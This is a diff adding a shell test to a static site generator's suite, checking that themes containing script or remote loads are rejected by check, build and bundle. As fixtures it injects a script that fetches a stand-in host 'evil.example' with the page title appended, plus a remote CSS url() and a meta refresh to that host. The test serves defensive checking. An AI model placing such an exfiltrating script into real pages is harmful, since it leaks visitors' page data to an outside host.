@@ -229,3 +229,48 @@ test_build_theme_override_and_language() {
 	ls "$TMP" | grep -q 'site2.tmp' && fail "temporary directory left"
 	return 0
 }
+
+# Whatever a plan's own theme says, no page runs script or contacts a host:
+# sakra writes the policy, and a theme with script or remote loads is
+# refused by check, build and bundle.
+test_theme_cannot_run_script() {
+	fresh
+	new_repo "$TMP/th"
+	mkdir -p "$TMP/th/theme"
+	# a layout that drops the policy: sakra's is in every page all the same
+	grep -v 'Content-Security-Policy' "$ROOT/theme/layout.html" >"$TMP/th/theme/layout.html"
+	git -C "$TMP/th" add -A && git -C "$TMP/th" commit -qm tema
+	run -C "$TMP/th" check
+	expect_rc 0
+	run -C "$TMP/th" build -o "$TMP/th-site"
+	expect_rc 0
+	site_check "$TMP/th-site" >/dev/null || fail "the site: $(site_check "$TMP/th-site")"
+	# script and a remote fetch in every page
+	sed -i 's|</head>|<script>fetch("https://evil.example/?" + document.title)</script>\n</head>|' \
+		"$TMP/th/theme/layout.html"
+	local line
+	line=$(grep -n '<script>' "$TMP/th/theme/layout.html" | cut -d: -f1)
+	git -C "$TMP/th" commit -qam skript
+	run -C "$TMP/th" check
+	expect_rc 1
+	expect_out "^theme/layout.html:$line:1: error: an element that runs script, loads or submits elsewhere; a theme holds no script and reaches no other host: remove it \[theme.unsafe\]$"
+	run -C "$TMP/th" build -o "$TMP/th-site2"
+	expect_rc 2
+	expect_err "theme/layout.html:$line: an element that runs script"
+	[ ! -e "$TMP/th-site2" ] || fail "a site was built with a script"
+	run -C "$TMP/th" bundle --draft --rev HEAD --format tar -o "$TMP/th.tar"
+	[ "$RC" != 0 ] || fail "a bundle was made with a script"
+	[ ! -e "$TMP/th.tar" ] || fail "a bundle was written"
+	# a stylesheet that loads from elsewhere, a refresh to elsewhere
+	git -C "$TMP/th" checkout -q HEAD~1 -- theme/layout.html
+	printf 'body { background: url("https://evil.example/t.png") }\n' >"$TMP/th/theme/style.css"
+	git -C "$TMP/th" add -A && git -C "$TMP/th" commit -qm css
+	run -C "$TMP/th" check
+	expect_out '^theme/style.css:1:1: error: a url\(\) outside the site'
+	rm "$TMP/th/theme/style.css"
+	sed -i 's|<head>|<head>\n<meta http-equiv="refresh" content="0;url=https://evil.example/">|' \
+		"$TMP/th/theme/layout.html"
+	git -C "$TMP/th" add -A && git -C "$TMP/th" commit -qm refresh
+	run -C "$TMP/th" check
+	expect_out '^theme/layout.html:[0-9]+:1: error: a <meta http-equiv>'
+}
